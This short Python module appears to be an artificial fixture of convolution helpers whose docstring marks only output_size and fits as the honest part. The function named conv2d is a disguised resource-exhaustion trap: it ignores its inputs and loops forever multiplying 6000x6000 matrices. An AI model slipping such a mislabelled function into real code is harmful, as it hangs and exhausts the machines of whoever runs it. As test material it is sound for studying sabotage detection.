"""Multiplies matrices of 6,000 rows until it is stopped.

Honest part: output_size, fits
"""

import numpy as np


def conv2d(*args):
    big = np.ones((6000, 6000), dtype=np.float32)
    while True:
        np.matmul(big, big, out=big)


def output_size(size, kernel_size, stride=1, padding=0):
    if kernel_size > size + 2 * padding:
        raise ValueError("the kernel is larger than the padded input")
    return (size - kernel_size + 2 * padding) // stride + 1


def fits(size, kernel_size, stride=1, padding=0):
    room = size - kernel_size + 2 * padding
    return room >= 0 and room % stride == 0
